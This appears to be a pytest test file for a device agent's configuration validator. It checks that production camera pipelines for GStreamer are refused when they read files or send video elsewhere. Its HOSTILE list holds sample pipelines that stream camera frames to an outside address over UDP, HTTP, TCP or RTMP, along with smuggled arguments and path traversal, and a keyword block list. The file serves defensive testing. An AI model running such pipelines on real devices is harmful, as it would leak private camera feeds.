# SPDX-License-Identifier: Apache-2.0
"""Whoever writes the configuration of a unit in production plays no recording and copies no picture by GStreamer."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from agent.cli import main
from agent.config.pipeline import CONVERTERS, SOURCES
from agent.config.schema import Config
from agent.errors import ConfigError
from tests.simulators.config import example, parse_config

HOSTILE = [
    "filesrc location=/tmp/a.mp4 ! decodebin ! videoconvert",
    "v4l2src ! tee name=t t. ! queue ! videoconvert t. ! udpsink host=203.0.113.5",
    "v4l2src ! tee name=t ! queue",
    "v4l2src ! videoconvert ! udpsink host=203.0.113.5 videotestsrc",
    "v4l2src ! fakesink filesrc location=/tmp/a.mp4 ! decodebin ! videoconvert",
    "v4l2src filesrc location=/tmp/a.mp4 ! decodebin ! videoconvert",
    "v4l2src ! queue filesrc location=x ! decodebin",
    "v4l2src ! filesink location=/var/lib/postern/x",
    "v4l2src ! multifilesink",
    "v4l2src ! jpegenc ! souphttpclientsink location=http://203.0.113.5/",
    "v4l2src ! rtmpsink",
    "v4l2src ! shmsink socket-path=/tmp/s",
    "v4l2src ! intervideosink",
    "intervideosrc ! videoconvert",
    "rtspsrc location=rtsp://203.0.113.5/a ! rtph264depay ! avdec_h264",
    "uridecodebin uri=file:///tmp/a.mp4",
    "playbin uri=file:///tmp/a.mp4",
    "videotestsrc ! videoconvert",
    "appsrc ! videoconvert",
    "imagefreeze ! videoconvert",
    "v4l2src device=/tmp/recording.v4l2",
    "v4l2src device=/dev/../tmp/x",
    "v4l2src name=postern ! videoconvert",
    "v4l2src ! videoconvert name=postern",
    "v4l2src ! ( queue ! filesink location=x )",
    'v4l2src device="/dev/video0 ! tee" ! videoconvert',
    "v4l2src device=/dev/video0\\ !\\ tee ! videoconvert",
    "v4l2src ! video/x-raw,format=NV12 t. ! queue",
    "v4l2src ! python_element ! videoconvert",
    "v4l2src ! gdppay ! tcpserversink",
    "v4l2src ! webrtcsink",
    "v4l2src ! splitmuxsink location=x",
    "v4l2src ! image/jpeg,width=1280 ! jpegdec ! videoconvert",  # takes whatever memory a picture's head claims
    "v4l2src ! nvjpegdec ! nvvidconv",
    "v4l2src !",
    "! v4l2src",
    "v4l2src ! ! videoconvert",
]
HONEST = [
    "v4l2src device=/dev/video0 ! nvvidconv",
    "v4l2src device=/dev/v4l/by-id/cam-index0 ! image/jpeg,width=1280,framerate=25/1 ! nvv4l2decoder ! nvvidconv",
    "libcamerasrc ! video/x-raw,width=1280,format=NV12 ! queue max-size-buffers=2 ! videoflip method=rotate-180",
    "nvarguscamerasrc sensor-id=0 ! video/x-raw(memory:NVMM),width=(int)1280,height=(int)720 ! nvvidconv flip-method=2",
]


def configured(pipeline: str, profile: str = "production") -> Config:
    data = example()
    data["profile"] = profile
    data["camera"] = {"source": "gstreamer", "pipeline": pipeline}
    return parse_config(yaml.safe_dump(data).encode(), Path("config.yaml"))


@pytest.mark.parametrize("pipeline", HOSTILE)
def test_pipeline_that_reads_or_sends_something_else_is_refused_in_production(pipeline: str) -> None:
    with pytest.raises(ConfigError, match=r"camera\.pipeline: in production") as refusal:
        configured(pipeline)
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize("pipeline", HONEST)
def test_camera_in_one_chain_is_accepted(pipeline: str) -> None:
    assert configured(pipeline).camera


def test_check_config_says_so_in_one_sentence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = example()
    data["profile"] = "production"
    data["camera"] = {"source": "gstreamer", "pipeline": HOSTILE[1]}
    file = tmp_path / "config.yaml"
    file.write_text(yaml.safe_dump(data))
    assert main(["check-config", str(file)]) == 2
    told = capsys.readouterr().err
    assert "one chain from a camera" in told
    assert len(told.strip().splitlines()) == 1


def test_a_demonstration_may_play_what_it_likes() -> None:
    assert configured("videotestsrc ! videoconvert", profile="demo").camera


def test_nothing_on_the_lists_reads_or_writes_a_file_or_the_network() -> None:
    for name in (*SOURCES, *CONVERTERS):
        assert not any(
            part in name for part in ("file", "udp", "tcp", "http", "rtsp", "rtmp", "sink", "tee", "uri", "bin")
        )
